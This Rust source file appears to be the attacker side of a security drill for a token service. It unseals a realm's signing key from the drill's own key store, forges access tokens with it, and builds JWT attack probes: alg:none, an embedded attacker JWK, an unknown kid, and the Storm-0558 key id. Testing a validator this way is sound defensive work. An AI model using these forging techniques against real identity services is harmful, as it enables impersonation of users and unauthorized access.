//! The attacker's side of the drill: a signing key read out of the drill's own temporary
//! key store (standing in for the 2023 crash dump; the product offers no way to export a
//! private key), tokens forged with it, and the classic probes of a token front door.

use std::path::Path;
use std::sync::Arc;

use anyhow::Context;
use keyscope_custody::{KeySigner, KeySpec, KeyStore, MasterKey, SealedKeyStore};
use keyscope_jose::{Algorithm, SigningKey, b64};
use serde_json::{Map, Value, json};

use super::http::Http;

/// A realm's active signing key, unsealed: what a thief holding the database and the master
/// key has.
pub(super) struct StolenKey {
    pub kid: String,
    pub realm: String,
    signer: Arc<dyn KeySigner>,
}

/// Reads `realm`'s active key out of the store in `data_dir` and unseals it with the master
/// key file beside it, exactly as the service does to sign with it.
pub(super) fn steal(http: &Http, data_dir: &Path, realm: &str) -> anyhow::Result<StolenKey> {
    let keys = http.block_on(async {
        let store = keyscope_store::Store::open_sqlite(data_dir).await?;
        let keys = store.keys().await;
        store.close().await;
        anyhow::Ok(keys?)
    })?;
    let record = keys
        .into_iter()
        .find(|k| k.realm_id == realm && k.state == keyscope_store::KeyState::Active)
        .with_context(|| format!("realm {realm} has no active key"))?;
    let binding = keyscope_identity::sealing_binding(realm);
    let custody = SealedKeyStore::new(MasterKey::from_file(&data_dir.join("master.key"))?);
    let sealed = b64::decode_url(record.key_reference.as_bytes())
        .context("the stored key reference is not base64url")?;
    let alg = Algorithm::from_name(&record.alg).context("the stored key's algorithm")?;
    let signer = custody.open(
        &KeySpec {
            kid: &record.kid,
            issuer: &binding,
            alg,
        },
        &sealed,
    )?;
    Ok(StolenKey {
        kid: record.kid,
        realm: realm.to_owned(),
        signer,
    })
}

impl StolenKey {
    /// An access token (RFC 9068 `at+jwt`) with these claims, signed with the stolen key.
    pub fn forge(&self, claims: &Value) -> anyhow::Result<String> {
        let mut header = Map::new();
        header.insert("typ".into(), json!("at+jwt"));
        Ok(self
            .signer
            .sign_compact(header, claims.to_string().as_bytes())?)
    }
}

/// The claims of a forged access token for the mail service: a real user of the target
/// tenant, a fresh token id the ledger never saw, ten minutes to live.
pub(super) fn claims(issuer: &str, tenant: &str, sub: &str, audience: &str, now: i64) -> Value {
    json!({
        "iss": issuer,
        "sub": sub,
        "aud": audience,
        "exp": now + 600,
        "iat": now,
        "nbf": now,
        "jti": format!("forged-{}", keyscope_identity::random_id(12)),
        "client_id": "keyscope-mail",
        "tid": tenant,
        "scope": "openid",
    })
}

/// The attacker's own key pair (for probes that do not need anyone's real key).
pub(super) fn own_key(kid: &str) -> anyhow::Result<SigningKey> {
    Ok(SigningKey::generate(Algorithm::Es256, kid, None)?)
}

fn compact(header: &Value, claims: &Value, signature: &[u8]) -> String {
    format!(
        "{}.{}.{}",
        b64::encode_url(header.to_string().as_bytes()),
        b64::encode_url(claims.to_string().as_bytes()),
        b64::encode_url(signature)
    )
}

/// `alg: none` and no signature (CVE-2015-9235 and friends).
pub(super) fn alg_none(claims: &Value) -> String {
    compact(&json!({"alg": "none", "typ": "at+jwt"}), claims, b"")
}

/// The attacker's own public key embedded in the header (`jwk`), signed with its private
/// half: a validator that trusts the header's key accepts anything (CVE-2018-0114).
pub(super) fn embedded_jwk(key: &SigningKey, claims: &Value) -> anyhow::Result<String> {
    let mut header = Map::new();
    header.insert("typ".into(), json!("at+jwt"));
    header.insert("jwk".into(), Value::Object(key.public_jwk_members()));
    Ok(key.sign_compact(header, claims.to_string().as_bytes())?)
}

/// A correctly signed token naming a key nobody published.
pub(super) fn unknown_kid(kid: &str, claims: &Value) -> anyhow::Result<String> {
    let key = own_key(kid)?;
    let mut header = Map::new();
    header.insert("typ".into(), json!("at+jwt"));
    Ok(key.sign_compact(header, claims.to_string().as_bytes())?)
}

/// The kid of the 2016 Microsoft consumer key used by Storm-0558: the first guess.
pub(super) const STORM_0558_KID: &str = "1LTMzakihiRla_8z2BEJVXeWMqo";

#[cfg(test)]
mod tests {
    use super::*;

    fn header_of(token: &str) -> Value {
        let first = token.split('.').next().unwrap();
        serde_json::from_slice(&b64::decode_url(first.as_bytes()).unwrap()).unwrap()
    }

    #[test]
    fn probes_are_what_they_claim() {
        let claims = claims("https://x/t/c", "c", "u", "https://x/jmap", 1_800_000_000);
        assert!(claims["jti"].as_str().unwrap().starts_with("forged-"));
        let none = alg_none(&claims);
        assert!(none.ends_with('.'));
        assert_eq!(header_of(&none)["alg"], "none");
        let key = own_key("mine").unwrap();
        let jwk = embedded_jwk(&key, &claims).unwrap();
        assert_eq!(header_of(&jwk)["jwk"]["kid"], "mine");
        assert!(header_of(&jwk)["jwk"].get("d").is_none(), "no private part");
        let guess = unknown_kid(STORM_0558_KID, &claims).unwrap();
        assert_eq!(header_of(&guess)["kid"], STORM_0558_KID);
    }
}
